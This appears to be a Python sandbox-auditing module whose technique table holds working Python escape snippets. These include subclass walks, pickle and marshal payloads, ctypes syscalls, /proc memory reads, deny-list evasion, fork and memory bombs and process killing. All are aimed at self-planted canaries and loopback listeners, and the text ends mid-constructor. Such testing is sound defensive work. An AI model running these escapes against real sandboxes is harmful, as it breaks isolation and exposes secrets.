"""The escape and limits battery: techniques as data, judged by effects seen from outside.

Contract: ``audit(sandbox)`` runs every technique in ``TECHNIQUES`` against any object with an
``async execute_code(code) -> str`` method and returns an ``AuditReport`` with one ``Finding`` per
technique: ``blocked``, ``escaped`` (with the effects and evidence), ``error`` (the sandbox raised
or returned a non-string) or ``skipped``. Nothing the sandboxed code says about itself can clear
it: the trusted auditor plants the bait and checks the effects itself --
- per technique a canary file (a random secret, mode 0600, outside any scratch dir, also held on
  an inheritable fd): the secret must never appear in any output; the file must stay byte-equal
  and nothing may appear next to it;
- per technique a loopback TCP and UDP listener on a random 127.0.0.1 port: never reached;
- per technique a secret environment variable in the auditor's process, and a decoy ``sleep``
  process whose argv and environment hold another secret: never seen in output, and the decoy
  must stay alive, unstopped and untraced;
- processes: the sandbox's own processes (the auditor's descendants before the battery) stay
  alive and a health probe still answers; no process of the battery's making outlives its call
  (found by ancestry or by the run's random marker in argv/environment, and then killed; an
  orphan started meanwhile with a sandbox worker's argv is reported, never killed);
- files: nothing named with the run marker left in /tmp, /var/tmp, /dev/shm or the auditor's cwd;
- time: every call returns within the sandbox timeout + slack; the event loop is never blocked;
- contamination: reference snippets give the same output after a poisoning technique as before;
- limits: output longer than ``max_output_chars``; a snippet printing its breach marker after
  getting past a memory or disk limit (a snippet can only incriminate a sandbox, never clear it).
Techniques run concurrently (bounded by the sandbox's concurrency); ``isolated`` ones run alone,
and ``hazardous`` ones (fork, memory and disk bombs, killing the parent or pid -1, which would
harm the host if uncontained) run only when no other technique escaped. A global effect seen
after a concurrent group is attributed by re-running the group's techniques one at a time.
Everything the battery leaves behind (canaries, listeners, decoys, env vars, leaked processes and
files carrying the run marker) is removed before ``audit`` returns. Only 127.0.0.1 is targeted.

Not covered: an effect on something that is not bait (another file, another host) is not seen;
the process probes assume the sandbox runs on this host under the caller (a sandbox in a remote
VM or container is judged by its outputs, bait files and listeners only); a sandbox that keeps
state in a pool of reused workers is only caught contaminated when a reference snippet lands on
a poisoned worker (several are sent; a large pool can hide it). ``render`` shows every snippet.
"""

from __future__ import annotations

import argparse
import asyncio
import importlib
import inspect
import os
import re
import secrets
import shlex
import string
import subprocess
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

__all__ = [
    "EFFECTS", "TECHNIQUES", "Technique", "Bait", "Finding", "AuditReport", "audit", "render",
    "format_report", "load_factory", "add_audit_arguments", "run_audit_command",
]

# ----------------------------------------------------------------------------------------------
# The technique table
# ----------------------------------------------------------------------------------------------

EFFECTS: dict[str, str] = {
    "canary_read": "a canary secret appeared in the output or in listener data",
    "canary_write": "a canary file was changed or removed, or a file appeared next to it",
    "network": "a loopback listener received a connection or a datagram",
    "env_leak": "an environment secret of the auditor's process appeared",
    "proc_leak": "a decoy process's argv/environment secret appeared",
    "host_file": "the host's /etc/passwd appeared in the output",
    "signal": "a decoy process was killed, stopped or traced",
    "supervisor": "a sandbox process died, or the sandbox stopped answering a health probe",
    "process_leak": "a process started by the snippet outlived its call",
    "file_leak": "a file named with the run marker was left on disk",
    "hang": "the call did not return within the timeout plus slack",
    "loop_blocked": "the auditor's event loop was blocked while the call ran",
    "output_flood": "the output exceeded the output cap",
    "limit_breach": "the snippet printed its breach marker after getting past a limit",
    "contamination": "a reference snippet's output changed after the technique ran",
}

# Helpers prepended to a snippet that calls any of them. Placeholders ($canary, ...) are filled
# per technique by ``render``. It avoids the words regex deny-lists look for on purpose.
PRELUDE = r'''
def _bi():
    b = __builtins__
    return b if isinstance(b, dict) else vars(b)

def _classes():
    seen, todo = {}, [().__class__.__base__]
    while todo:
        c = todo.pop()
        if id(c) in seen:
            continue
        seen[id(c)] = c
        try:
            todo.extend(type.__subclasses__(c))
        except BaseException:
            pass
    return list(seen.values())

def _os():
    for get in (lambda: _bi()['__imp' 'ort__']('o' 's'),
                lambda: [c for c in _classes() if c.__name__ == '_wrap_close'][0].__init__.__globals__,
                lambda: [c for c in _classes() if c.__name__ == 'BuiltinImporter'][0].load_module('posix')):
        try:
            m = get()
            return m if isinstance(m, dict) else vars(m)
        except BaseException:
            pass
    raise RuntimeError('no os-like module reachable')

def _unguard():
    # swap a guarded import hook for importlib's own, found through a subclass walk
    BG = [c for c in _classes() if c.__name__ == 'ModuleSpec'][0].__init__.__globals__
    _bi()['__imp' 'ort__'] = BG['__imp' 'ort__']
    return BG['__imp' 'ort__']

def _imp(name):
    try:
        return _bi()['__imp' 'ort__'](name)
    except BaseException:
        return _unguard()(name)

def _sleep(s):
    try:
        _imp('time').sleep(s)
    except BaseException:
        for _ in range(int(s * 2e7)):
            pass

def _read(path, n=65536):
    try:
        with open(path, 'rb') as f:
            return f.read(n)
    except BaseException:
        O = _os()
        fd = O['open'](path, O['O_RDONLY'])
        try:
            return O['read'](fd, n)
        finally:
            O['close'](fd)

def _find(d):
    for v in list(d.values()):
        try:
            n = getattr(v, '__name__', None)
            if n in ('os', 'posix') and callable(getattr(v, 'system', None)):
                return vars(v)
            if n == 'sys' and isinstance(getattr(v, 'modules', None), dict):
                return vars(v.modules.get('os') or v.modules['posix'])
        except BaseException:
            pass
    return None

def _connect(S, port, kind=1):
    s = S.socket(2, kind)  # AF_INET; bytes host: no idna codec needed
    s.settimeout(1)
    s.connect((b'127.0.0.1', port))
    s.sendall($marker.encode())
    return s

def _fx(G, tag='fx'):
    R = []
    def t(label, f):
        try:
            R.append((label, f()))
        except BaseException as e:
            R.append((label, type(e).__name__))
    t('read', lambda: G['read'](G['open']($canary, G['O_RDONLY']), 4096))
    t('write', lambda: G['write'](G['open']($canary, G['O_WRONLY'] | G['O_APPEND']), b'PWNED'))
    t('create', lambda: G['open']($leak_path, G['O_WRONLY'] | G['O_CREAT'], 0o600))
    t('environ', lambda: str(G['environ']))
    t('signal', lambda: G['kill']($decoy_pid, 10))
    t('system', lambda: G['system']($shell))
    B = G.get('__builtins__') or _bi()
    B = B if isinstance(B, dict) else vars(B)
    t('connect', lambda: _connect(B['__imp' 'ort__']('sock' 'et'), $port))
    print(tag, R)
'''

_HELPER_CALL = ("_fx(", "_os(", "_imp(", "_unguard(", "_sleep(", "_read(", "_find(", "_classes(", "_bi(", "_connect(")


def uses_prelude(code: str) -> bool:
    """Whether a snippet calls a prelude helper (and so gets the prelude prepended)."""
    return any(call in code for call in _HELPER_CALL)


@dataclass(frozen=True, kw_only=True)
class Technique:
    """One escape or limits technique: the snippet to submit and the effect it goes for.

    ``code`` is a ``string.Template`` over the per-technique bait (see ``render``). ``aims`` names
    the effects (keys of ``EFFECTS``) the snippet tries to cause; every probe is checked for every
    technique regardless. ``followup`` is a reference snippet run right after (contamination).
    """

    name: str
    category: str
    code: str
    aims: tuple[str, ...]
    hazardous: bool = False
    isolated: bool = False
    followup: str | None = None

    def __post_init__(self) -> None:
        unknown = [a for a in self.aims if a not in EFFECTS]
        if unknown or not self.aims:
            raise ValueError(f"technique {self.name!r}: aims must be keys of EFFECTS, got {self.aims!r}")


def _t(name: str, category: str, aims: str, code: str, **kw: Any) -> Technique:
    return Technique(name=name, category=category, aims=tuple(aims.split()), code=code.strip("\n"), **kw)


_ALL = "canary_read canary_write env_leak signal network file_leak"
_FOLLOW_BUILTINS = "print(abs(-3), sorted([3, 1, 2]), len('ab'), print.__name__, repr(min))"
_FOLLOW_MODULES = (
    "import math, random, collections\n"
    "print(math.sqrt(16.0), type(random.random()).__name__, collections.Counter('aab').most_common(1))"
)

TECHNIQUES: tuple[Technique, ...] = (
    # --- Python-level escapes: reach an os-like namespace, then try every effect -----------------
    _t("subclass_walk_wrap_close", "python-escape", _ALL, """
G = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
_fx(G)
"""),
    _t("builtin_importer_posix", "python-escape", _ALL, """
BI = [c for c in _classes() if c.__name__ == 'BuiltinImporter'][0]
_fx(vars(BI.load_module('posix')))
"""),
    _t("reexport_random_os", "python-escape", _ALL, """
import random
_fx(vars(random._os))
"""),
    _t("reexport_collections_sys", "python-escape", _ALL, """
import collections
_fx(vars(collections._sys.modules.get('os') or collections._sys.modules['posix']))
"""),
    _t("reexport_scan_allowed_modules", "python-escape", _ALL, """
import math, random, datetime, collections, itertools, functools, operator, statistics, decimal, fractions
G = None
for m in (random, datetime, collections, functools, operator, statistics, decimal, fractions):
    G = G or _find(vars(m))
_fx(G)
"""),
    _t("function_globals_hook", "python-escape", _ALL, """
import random
_fx(vars(random.Random.seed.__globals__['_os']))
"""),
    _t("closure_and_globals_walk", "python-escape", _ALL, """
import functools, collections, random, statistics
todo = [getattr(m, n, None) for m in (functools, collections, random, statistics) for n in dir(m)]
seen, G = set(), None
while todo and G is None:
    o = todo.pop()
    if id(o) in seen:
        continue
    seen.add(id(o))
    for cell in (getattr(o, '__closure__', None) or ()):
        try:
            todo.append(cell.cell_contents)
        except ValueError:
            pass
    for attr in ('__func__', '__wrapped__', 'fget'):
        if getattr(o, attr, None) is not None:
            todo.append(getattr(o, attr))
    g = getattr(o, '__globals__', None)
    if isinstance(g, dict):
        G = _find(g)
_fx(G)
"""),
    _t("traceback_frame_walk", "python-escape", _ALL, """
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
G = None
while f is not None and G is None:
    G = _find(f.f_globals) or _find(f.f_locals)
    f = f.f_back
_fx(G)
"""),
    _t("generator_frame_walk", "python-escape", _ALL, """
def gen():
    yield g.gi_frame.f_back
g = gen()
f = next(g)
G = None
while f is not None and G is None:
    G = _find(f.f_globals) or _find(f.f_builtins)
    f = f.f_back
_fx(G)
"""),
    _t("warnings_catch_module", "python-escape", _ALL, """
CW = [c for c in _classes() if c.__name__ == 'catch_warnings'][0]
S = CW()._module.sys
_fx(vars(S.modules.get('os') or S.modules['posix']))
"""),
    _t("format_string_traversal", "python-escape", "env_leak", """
import random
print('{0.__init__.__globals__[_os].environ}'.format(random.Random()))
print(('{0.__init__.__globals__[_os].environ[' + $env_name + ']}').format(random.Random()))
"""),
    _t("ctypes_libc", "python-escape", "canary_read signal env_leak", """
ctypes = _imp('ctypes')
libc = ctypes.CDLL(None)
libc.system($shell.encode())
libc.kill($decoy_pid, 10)
buf = ctypes.create_string_buffer(4096)
libc.read(libc.open($canary.encode(), 0), buf, 4096)
print(buf.value)
"""),
    _t("ctypes_raw_socket", "network", "network", """
libc = _imp('ctypes').CDLL(None)
fd = libc.socket(2, 1, 0)
addr = bytes([2, 0, $port >> 8, $port & 255, 127, 0, 0, 1]) + bytes(8)
print(fd, libc.connect(fd, addr, 16), libc.write(fd, $marker.encode(), len($marker)))
"""),
    _t("gc_get_objects", "python-escape", _ALL, """
gc = _imp('gc')
gc.unfreeze()
G = None
for o in gc.get_objects():
    if isinstance(o, dict) and callable(o.get('system')) and 'environ' in o:
        G = o
        break
_fx(G)
"""),
    _t("gc_get_referrers", "python-escape", _ALL, """
gc = _imp('gc')
gc.unfreeze()
B = [r for r in gc.get_referrers(len) if isinstance(r, dict) and '__build_class__' in r][0]
_fx(vars(B['__imp' 'ort__']('o' 's')))
"""),
    _t("code_object_forging", "python-escape", _ALL, """
f = lambda: _i_('o' 's')
code = f.__code__.replace(co_names=tuple('__imp' 'ort__' if n == '_i_' else n for n in f.__code__.co_names))
_fx(vars(type(f)(code, globals())()))
"""),
    _t("pickle_reduce", "python-escape", "canary_read network env_leak", """
pickle = _imp('pickle')
try:
    _unguard()  # pickle's own imports (posix, socket) must not meet an import guard
except BaseException as e:
    print(type(e).__name__)
for blob in ($pickle_system, $pickle_connect):
    try:
        print(pickle.loads(blob))
    except BaseException as e:
        print(type(e).__name__)
"""),
    _t("marshal_loads", "python-escape", _ALL, """
marshal = _imp('marshal')
type(lambda: 0)(marshal.loads(bytes.fromhex($marshal_hex)), {'__builtins__': __builtins__})()
"""),
    _t("loader_and_spec", "python-escape", _ALL, """
import random
G = None
try:
    L = random.__spec__.loader
    G = vars(type(L)('o' 's', random.__file__[:-9] + 'os.py').load_module())
except BaseException as e:
    print('spec', type(e).__name__)
    G = vars(_bi()['__loader__'].load_module('posix'))
_fx(G)
"""),
    _t("importlib_bootstrap_globals", "python-escape", _ALL, """
MS = [c for c in _classes() if c.__name__ == 'ModuleSpec'][0]
_fx(vars(MS.__init__.__globals__['_builtin_from_name']('posix')))
"""),
    _t("nfkc_fullwidth_identifiers", "python-escape", "canary_read env_leak", """
print(ｏｐｅｎ($canary).read())
print(vars(__ｉｍｐｏｒｔ__('o' 's'))['environ'])
"""),
    _t("string_obfuscation", "python-escape", _ALL, """
I = _bi()['__imp' + 'ort__']
_fx(vars(I(''.join(chr(c) for c in (111, 115)))))
"""),
    _t("fileio_from_subclasses", "python-escape", "canary_read", """
FIO = [c for c in _classes() if c.__name__ == 'FileIO'][0]
print(FIO($canary).read())
"""),
    # --- Filesystem ----------------------------------------------------------------------------
    _t("open_canary_direct", "filesystem", "canary_read", "print(open($canary).read())"),
    _t("write_canary_direct", "filesystem", "canary_write", """
open($canary, 'a').write('PWNED')
open($canary_dir + '/created-' + $marker, 'w').write('x')
"""),
    _t("unlink_canary", "filesystem", "canary_write", """
O = _os()
O['unlink']($canary)
"""),
    _t("relative_path_traversal", "filesystem", "canary_read", """
print(_read('../' * 24 + $canary.lstrip('/')))
"""),
    _t("symlink_and_hardlink", "filesystem", "canary_read canary_write", """
O = _os()
for make, name in (('symlink', 's-' + $marker), ('link', 'h-' + $marker)):
    try:
        O[make]($canary, name)
        print(make, _read(name))
    except BaseException as e:
        print(make, type(e).__name__)
"""),
    _t("open_etc_passwd", "filesystem", "host_file", "print(_read('/etc/passwd').decode())"),
    _t("tmp_and_shm_files", "filesystem", "file_leak", """
for path in ($leak_path, '/dev/shm/' + $marker, '/var/tmp/' + $marker, 'leak-' + $marker):
    try:
        open(path, 'w').write('x')
    except BaseException as e:
        O = _os()
        try:
            O['close'](O['open'](path, O['O_WRONLY'] | O['O_CREAT'], 0o600))
        except BaseException as e:
            print(path, type(e).__name__)
"""),
    # --- /proc and inherited state -------------------------------------------------------------
    _t("proc_self_mem_write", "proc", _ALL, """
O = _os()
fd = O['open']('/proc/self/mem', O['O_RDWR'])
for line in _read('/proc/self/maps', 1 << 20).decode().splitlines():
    if ' rw' in line:
        lo = int(line.split('-')[0], 16)
        print('wrote', O['pwrite'](fd, O['pread'](fd, 8, lo), lo))
        break
_fx(O)
"""),
    _t("proc_environ_cmdline_scan", "proc", "proc_leak env_leak", """
O = _os()
for pid in O['listdir']('/proc'):
    if pid.isdigit():
        for leaf in ('environ', 'cmdline'):
            try:
                data = _read('/proc/%s/%s' % (pid, leaf), 1 << 16)
            except BaseException:
                continue
            for key in (b'RETOOL_', b'retool-'):
                i = data.find(key)
                if i >= 0:
                    print(pid, leaf, data[max(0, i - 64):i + 200])
"""),
    _t("proc_parent_and_root", "proc", "canary_read proc_leak env_leak", """
O = _os()
for pid in (O['getppid'](), $auditor_pid, $decoy_pid):
    for leaf in ('environ', 'cmdline', 'root' + $canary, 'cwd/../../' + $canary.lstrip('/')):
        try:
            print(pid, leaf, _read('/proc/%d/%s' % (pid, leaf)))
        except BaseException as e:
            print(pid, leaf, type(e).__name__)
"""),
    _t("proc_auditor_memory", "proc", "env_leak", """
O = _os()
key = ($env_name + '=').encode()
fd = O['open']('/proc/%d/mem' % $auditor_pid, O['O_RDONLY'])
budget = 256 << 20
for line in _read('/proc/%d/maps' % $auditor_pid, 1 << 22).decode().splitlines():
    parts = line.split()
    if len(parts) < 2 or not parts[1].startswith('rw') or budget <= 0:
        continue
    lo, hi = (int(x, 16) for x in parts[0].split('-'))
    size = min(hi - lo, budget)
    budget -= size
    try:
        data = O['pread'](fd, size, lo)
    except BaseException:
        continue
    i = data.find(key)
    if i >= 0:
        print('found', data[i:i + 120])
        break
"""),
    _t("inherited_fds", "proc", "canary_read canary_write", """
O = _os()
for fd in range(3, 65):
    try:
        O['fstat'](fd)
    except BaseException:
        continue
    for op in (lambda: O['lseek'](fd, 0, 0), lambda: O['read'](fd, 4096), lambda: O['write'](fd, $marker.encode())):
        try:
            print(fd, op())
        except BaseException as e:
            print(fd, type(e).__name__)
"""),
    # --- Processes -----------------------------------------------------------------------------
    _t("fork_survivor", "process", "process_leak " + _ALL, """
O = _os()
pid = O['fork']()
if pid == 0:
    _sleep(0.3)
    _fx(O, 'late')
    _sleep(20)
    O['_exit'](0)
print('forked', pid)
"""),
    _t("double_fork_daemon", "process", "process_leak " + _ALL, """
O = _os()
if O['fork']() == 0:
    O['setsid']()
    if O['fork']() == 0:
        _sleep(0.3)
        _fx(O, 'late')
        _sleep(20)
    O['_exit'](0)
print('daemonized')
"""),
    _t("subprocess_module", "process", "canary_read process_leak", """
SP = _imp('subprocess')
print(SP.run(['cat', $canary], capture_output=True).stdout)
SP.Popen(['sh', '-c', 'sleep 20; : ' + $marker], start_new_session=True)
"""),
    _t("os_system_import_list", "process", "canary_read env_leak", """
import math, os
os.system($shell)
"""),
    _t("os_exec", "process", "canary_read", """
O = _os()
O['execv']('/bin/sh', ['sh', '-c', $shell])
"""),
    _t("posix_spawn", "process", "canary_read", """
O = _os()
pid = O['posix_spawn']('/bin/sh', ['sh', '-c', $shell], {})
print(O['waitpid'](pid, 0))
"""),
    _t("kill_decoy", "process", "signal", """
O = _os()
for call, args in (('kill', ($decoy_pid, 9)), ('killpg', ($decoy_pid, 9)), ('kill', ($decoy_pid, 19))):
    try:
        print(call, O[call](*args))
    except BaseException as e:
        print(call, type(e).__name__)
"""),
    _t("ptrace_decoy", "process", "signal", """
libc = _imp('ctypes').CDLL(None)
print(libc.ptrace(16, $decoy_pid, 0, 0))
O = _os()
try:
    O['waitpid']($decoy_pid, 0x40000000)
except BaseException as e:
    print(type(e).__name__)
print(libc.ptrace(8, $decoy_pid, 0, 0))
"""),
    _t("raw_syscalls_via_ctypes", "process", "signal", """
libc = _imp('ctypes').CDLL(None, use_errno=True)
if _os()['uname']().machine == 'x86_64':
    for name, nr, args in (('kill', 62, ($decoy_pid, 10)), ('tgkill', 234, ($decoy_pid, $decoy_pid, 10)),
                           ('ptrace', 101, (16, $decoy_pid, 0, 0)), ('pidfd_open', 434, ($decoy_pid, 0)),
                           ('userfaultfd', 323, (0,)), ('io_uring_setup', 425, (8, 0)), ('bpf', 321, (0, 0, 0))):
        print(name, libc.syscall(nr, *args))
"""),
    _t("unshare_namespaces_then_payload", "process", _ALL, """
libc = _imp('ctypes').CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x40000000):  # NEWUSER, NEWUSER|NEWNS, NEWNET
    print(hex(flags), libc.unshare(flags))
_fx(_os())
"""),
    _t("fork_bomb", "process", "process_leak supervisor", """
O = _os()
n = 0
for i in range(32):
    try:
        pid = O['fork']()
    except BaseException as e:
        print('fork', type(e).__name__)
        break
    if pid == 0:
        for j in range(3):
            try:
                O['fork']()
            except BaseException:
                break
        _sleep(3)
        O['_exit'](0)
    n += 1
print('children', n)
""", hazardous=True, isolated=True),
    _t("kill_parent", "process", "supervisor", """
O = _os()
for sig in (9, 15):
    try:
        O['kill'](O['getppid'](), sig)
    except BaseException as e:
        print(type(e).__name__)
""", hazardous=True, isolated=True),
    _t("kill_pid1_and_all", "process", "supervisor signal", """
O = _os()
for pid in (1, -1):
    try:
        O['kill'](pid, 9)
    except BaseException as e:
        print(pid, type(e).__name__)
""", hazardous=True, isolated=True),
    # --- Network -------------------------------------------------------------------------------
    _t("socket_tcp_connect", "network", "network", """
try:
    import math, socket as S
except BaseException:
    S = _imp('sock' 'et')
_connect(S, $port)
"""),
    _t("socket_udp_sendto", "network", "network", """
S = _imp('sock' 'et')
S.socket(S.AF_INET, S.SOCK_DGRAM).sendto($marker.encode(), ('127.0.0.1', $udp_port))
"""),
    _t("dev_tcp_redirect", "network", "network", """
O = _os()
O['system']("bash -c 'echo %s > /dev/tcp/127.0.0.1/%d'" % ($marker, $port))
open('/dev/tcp/127.0.0.1/%d' % $port, 'w').write($marker)
"""),
    # --- Limits and time -----------------------------------------------------------------------
    _t("memory_bomb", "limits", "limit_breach supervisor", """
chunks, total = [], 0
while total <= $mem_bytes + (64 << 20):
    chunks.append(b'\\x01' * (32 << 20))
    total += 32 << 20
print($breach, total)
""", hazardous=True, isolated=True),
    _t("setrlimit_raise_then_allocate", "limits", "limit_breach", """
R = _imp('resource')
for lim in (R.RLIMIT_AS, R.RLIMIT_DATA, R.RLIMIT_FSIZE, R.RLIMIT_CPU, R.RLIMIT_NPROC):
    try:
        R.setrlimit(lim, (R.RLIM_INFINITY, R.RLIM_INFINITY))
    except BaseException as e:
        print(lim, type(e).__name__)
chunks, total = [], 0
while total <= $mem_bytes + (64 << 20):
    chunks.append(b'\\x01' * (32 << 20))
    total += 32 << 20
print($breach, total)
""", hazardous=True, isolated=True),
    _t("disk_fill", "limits", "limit_breach file_leak", """
O = _os()
fd = O['open']('fill-' + $marker, O['O_WRONLY'] | O['O_CREAT'], 0o600)
block, n = bytes(1 << 20), 0
while n <= $disk_bytes + (16 << 20):
    n += O['write'](fd, block)
print($breach, n)
""", hazardous=True, isolated=True),
    _t("thread_bomb", "limits", "hang supervisor", """
try:
    start = lambda: _imp('threading').Thread(target=_sleep, args=(30,)).start()
    start()
except BaseException:
    start = lambda: _imp('_thread').start_new_thread(_sleep, (30,))
n = 0
for i in range(1000):
    try:
        start()
        n += 1
    except BaseException as e:
        print(type(e).__name__)
        break
print('threads', n)
"""),
    _t("fd_exhaustion", "limits", "supervisor", """
O = _os()
fds = []
try:
    while len(fds) < 100000:
        fds.append(O['dup'](0))
except BaseException as e:
    print(type(e).__name__, len(fds))
"""),
    _t("huge_output", "limits", "output_flood", """
for _ in range(64):
    print('A' * (1 << 20))
"""),
    _t("binary_garbage_output", "limits", "supervisor", """
O = _os()
O['write'](1, bytes(range(256)) * 64)
O['write'](2, b'\\xff\\xfe\\x00' * 1000)
"""),
    _t("deep_recursion_segfault", "limits", "supervisor", """
try:
    _os()['sys'].setrecursionlimit(10 ** 7)
except BaseException as e:
    print(type(e).__name__)
def f(n):
    return f(n + 1) + 1
f(0)
"""),
    _t("cpu_spin", "time", "hang", "while True:\n    pass"),
    _t("sleep_past_timeout", "time", "hang", "_sleep(3600)"),
    _t("ignore_signals_then_spin", "time", "hang", """
SG = _imp('signal')
for s in ('SIGALRM', 'SIGTERM', 'SIGINT', 'SIGHUP', 'SIGXCPU', 'SIGUSR1', 'SIGUSR2', 'SIGQUIT'):
    try:
        SG.signal(getattr(SG, s), SG.SIG_IGN)
    except BaseException as e:
        print(s, type(e).__name__)
while True:
    pass
"""),
    _t("catch_base_exception_loop", "time", "hang", """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""),
    _t("stdin_read_blocks", "time", "hang", "print(len(_os()['read'](0, 1 << 20)))"),
    _t("close_stdio_then_sleep", "time", "hang supervisor", """
O = _os()
O['close'](1)
O['close'](2)
_sleep(0.2)
"""),
    _t("exit0_fake_success", "process", "supervisor", """
print($marker + '-partial')
_os()['_exit'](0)
"""),
    # --- Cross-execution contamination ---------------------------------------------------------
    _t("builtins_poisoning", "contamination", "contamination", """
B = _bi()
B['abs'] = lambda x: 'POISONED'
B['sorted'] = lambda x: 'POISONED'
_print = B['print']
B['print'] = lambda *a, **k: _print('POISONED', *a, **k)
""", isolated=True, followup=_FOLLOW_BUILTINS),
    _t("module_attribute_poisoning", "contamination", "contamination", """
import math, random, collections
math.sqrt = lambda x: 'POISONED'
random.random = lambda: 'POISONED'
collections.Counter = None
""", isolated=True, followup=_FOLLOW_MODULES),
    _t("sys_modules_poisoning", "contamination", "contamination", """
S = _os()['sys']
class Fake:
    sqrt = staticmethod(lambda x: 'POISONED')
S.modules['math'] = Fake()
S.modules['collections'] = Fake()
S.path.insert(0, '.')
open('math.py', 'w').write('sqrt = lambda x: "POISONED"')
""", isolated=True, followup=_FOLLOW_MODULES),
    _t("daemon_thread_survivor", "contamination", "contamination network", """
T = _imp('_thread')
def loop():
    _sleep(0.3)
    _fx(_os(), 'late')
    for _ in range(100):
        print('POISONED')
        _sleep(0.05)
T.start_new_thread(loop, ())
""", isolated=True, followup=_FOLLOW_BUILTINS),
    _t("atexit_hook", "contamination", _ALL, """
A = _imp('atexit')
A.register(lambda: _fx(_os(), 'atexit'))
"""),
)


# ----------------------------------------------------------------------------------------------
# The engine
# ----------------------------------------------------------------------------------------------

HEALTH_CODE = "print(6 * 7)"
AUDIT_TIMEOUT_S = 3.0  # the CLI's default sandbox: short, so the hang techniques end quickly
AUDIT_MEMORY_LIMIT = "256MB"
DEFAULT_TIMEOUT_S = 10.0
_WATCHED_DIRS: tuple[tuple[str, int], ...] = (("/tmp", 3), ("/var/tmp", 2), ("/dev/shm", 2))
_LOOP_TICK_S = 0.05
_LOOP_BLOCKED_S = 3.0  # well above scheduling noise on a loaded 2-core host
_MEM_CAP_BYTES = 4 << 30
_HEX_RUN = re.compile(r"[0-9a-f]{32,}")
_DISK_CAP_BYTES = 1 << 30


@dataclass(frozen=True, kw_only=True)
class Finding:
    """What one technique did: ``verdict`` is blocked | escaped | error | skipped."""

    name: str
    category: str
    verdict: str
    effects: tuple[str, ...] = ()
    evidence: tuple[str, ...] = ()
    duration_s: float = 0.0
    output_head: str = ""


@dataclass(frozen=True, kw_only=True)
class AuditReport:
    findings: tuple[Finding, ...]
    unattributed: tuple[str, ...]
    duration_s: float
    sandbox: str

    def finding(self, name: str) -> Finding:
        for f in self.findings:
            if f.name == name:
                return f
        raise KeyError(f"no finding for technique {name!r}")

    @property
    def results(self) -> tuple[Finding, ...]:
        """Alias of ``findings``."""
        return self.findings

    @property
    def escaped(self) -> tuple[Finding, ...]:
        return tuple(f for f in self.findings if f.verdict == "escaped")

    @property
    def ok(self) -> bool:
        """No escape, no error, no unattributed effect (skipped techniques are listed, not failed)."""
        return not self.unattributed and all(f.verdict in ("blocked", "skipped") for f in self.findings)


@dataclass(kw_only=True)
class Bait:
    """One technique's bait (canary, secrets, decoy, listener ports) and what was seen of it."""

    index: int
    technique: Technique
    marker: str
    canary_path: str
    canary_bytes: bytes
    canary_secret: str
    env_name: str
    env_secret: str
    decoy_secret: str
    decoy: subprocess.Popen | None = None
    tcp_port: int = 0
    udp_port: int = 0
    hits: list[bytes] = field(default_factory=list)
    fd: int = -1
    decoy_reported: bool = False
    canary_reported: bool = False
    hits_reported: int = 0
    effects: dict[str, list[str]] = field(default_factory=dict)
    error: str = ""
    skipped: str = ""
    duration_s: float = 0.0
    output_head: str = ""

    def add(self, effect: str, evidence: str) -> None:
        found = self.effects.setdefault(effect, [])
        if evidence not in found:
            found.append(evidence)


def _die_with_parent() -> None:
    """In a decoy, before exec: SIGKILL when the auditor goes, even if it never reaches teardown."""
    import ctypes  # noqa: PLC0415

    ctypes.CDLL(None).prctl(1, 9)  # PR_SET_PDEATHSIG, SIGKILL


def _pickle_blobs(shell: str, port: int) -> tuple[bytes, bytes]:
    # protocol-0 GLOBAL + REDUCE: unpickling calls posix.system / socket.create_connection
    system = b"cposix\nsystem\n(V" + shell.encode() + b"\ntR."
    connect = b"csocket\ncreate_connection\n((C\x09127.0.0.1I%d\ntI1\ntR." % port  # bytes host: no idna
    return system, connect


def render(technique: Technique, bait: Bait, *, canary_dir: str, mem_bytes: int, disk_bytes: int) -> str:
    """The exact snippet submitted for ``technique`` with ``bait`` (prelude added when used)."""
    shell = f"cat {shlex.quote(bait.canary_path)}; printenv {bait.env_name}; : {bait.marker}"
    values = {
        "canary": repr(bait.canary_path), "canary_dir": repr(canary_dir), "marker": repr(bait.marker),
        "leak_path": repr(f"/tmp/{bait.marker}"), "env_name": repr(bait.env_name),
        "decoy_pid": str(bait.decoy.pid if bait.decoy else 0), "auditor_pid": str(os.getpid()),
        "port": str(bait.tcp_port), "udp_port": str(bait.udp_port), "shell": repr(shell),
        "breach": f"{bait.marker!r} + '-' + 'HCAERB'[::-1]", "mem_bytes": str(mem_bytes),
        "disk_bytes": str(disk_bytes),
    }
    prelude = string.Template(PRELUDE).substitute(values)
    system, connect = _pickle_blobs(shell, bait.tcp_port)
    marshal_src = prelude + "\n_fx(vars(_bi()['__imp' 'ort__']('o' 's')), 'marshal')\n"
    import marshal  # noqa: PLC0415 (only the auditor's interpreter runs this)

    values |= {
        "pickle_system": repr(system), "pickle_connect": repr(connect),
        "marshal_hex": repr(marshal.dumps(compile(marshal_src, "<audit>", "exec")).hex()),
    }
    body = string.Template(technique.code).substitute(values)
    code = (prelude + "\n" + body) if uses_prelude(body) else body
    return code + f"\n# {bait.marker}\n"


def _number(sandbox: Any, names: Sequence[str]) -> float | None:
    for obj in (sandbox, getattr(sandbox, "config", None), getattr(sandbox, "_config", None)):
        for name in names:
            value = getattr(obj, name, None) if obj is not None else None
            if isinstance(value, (int, float)) and not isinstance(value, bool) and value > 0:
                return float(value)
    return None


class _Auditor:
    def __init__(self, sandbox: Any, techniques: Sequence[Technique], *, timeout_s: float, slack_s: float,
                 concurrency: int, mem_bytes: int, disk_bytes: int, max_output_chars: int, run_hazardous: bool):
        self.sandbox, self.techniques = sandbox, tuple(techniques)
        self.bound_s = timeout_s + slack_s
        self.concurrency, self.mem_bytes, self.disk_bytes = concurrency, mem_bytes, disk_bytes
        self.max_output_chars, self.run_hazardous = max_output_chars, run_hazardous
        tag = secrets.token_hex(4)
        self.run_marker, self.env_prefix = f"retool-audit-{tag}", f"RETOOL_AUDIT_{tag.upper()}_"
        self.canary_dir = tempfile.mkdtemp(prefix="retool-canary-")
        self.baits: list[Bait] = []
        self.by_name: dict[str, Bait] = {}
        self.servers: list[Any] = []
        self.sem = asyncio.Semaphore(concurrency)
        self.started_at = time.time()
        self.baseline: dict[int, float] = {}
        self.sandbox_cmdlines: set[str] = set()
